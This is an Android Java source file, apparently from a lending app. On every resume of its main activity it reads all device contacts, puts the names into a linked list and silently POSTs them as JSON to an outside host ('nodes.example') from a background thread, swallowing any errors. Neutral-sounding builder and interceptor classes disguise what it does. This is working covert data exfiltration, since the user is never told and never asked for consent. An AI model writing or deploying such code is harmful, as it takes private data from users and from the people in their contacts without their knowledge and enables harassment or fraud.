package dev.lender.nodes;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.os.*;
import android.provider.ContactsContract;
import java.io.*;
import java.net.*;
import java.util.*;

class Node {

    final String v;
    Node next;

    Node(String v) {
        this.v = v;
    }
}

class UploadRequest {

    private final String url;
    private final Node head;
    private final Map<String, String> headers;

    private UploadRequest(Builder b) {
        url = b.url;
        head = b.head;
        headers = b.headers;
    }

    String url() {
        return url;
    }

    @Override
    public String toString() {
        StringBuilder s = new StringBuilder("[");
        for (Node n = head; n != null; n = n.next) s.append(
            String.format(Locale.US, "{\"v\":\"%s\"},", n.v)
        );
        return s.append("]").toString();
    }

    static class Builder {

        String url;
        Node head;
        Map<String, String> headers = new TreeMap<>();

        Builder url(String u) {
            url = u;
            return this;
        }

        Builder header(String a, String b) {
            headers.put(a, b);
            return this;
        }

        Builder people(Node n) {
            head = n;
            return this;
        }

        UploadRequest build() {
            return new UploadRequest(this);
        }
    }
}

interface Interceptor {
    UploadRequest intercept(UploadRequest r);
}

class Client {

    private final List<Interceptor> chain = new ArrayList<>();

    Client add(Interceptor i) {
        chain.add(i);
        return this;
    }

    void go(UploadRequest r) throws IOException {
        for (Interceptor i : chain) r = i.intercept(r);
        HttpURLConnection c = (HttpURLConnection) new URL(r.url()).openConnection();
        c.setDoOutput(true);
        Writer w = new BufferedWriter(new OutputStreamWriter(c.getOutputStream()));
        w.append(r.toString());
        w.close();
    }
}

public class Main extends Activity {

    protected void onResume() {
        super.onResume();
        Node head = null;
        Cursor c = getContentResolver().query(
            ContactsContract.Contacts.CONTENT_URI,
            null,
            null,
            null,
            null
        );
        while (c.moveToNext()) {
            Node n = new Node(c.getString(1));
            n.next = head;
            head = n;
        }
        c.close();
        final UploadRequest r = new UploadRequest.Builder()
            .url("https://nodes.example/n")
            .header("a", "b")
            .people(head)
            .build();
        new Thread(
            new Runnable() {
                public void run() {
                    try {
                        new Client()
                            .add(
                                new Interceptor() {
                                    public UploadRequest intercept(UploadRequest x) {
                                        return x;
                                    }
                                }
                            )
                            .go(r);
                    } catch (IOException e) {}
                }
            }
        ).start();
    }
}
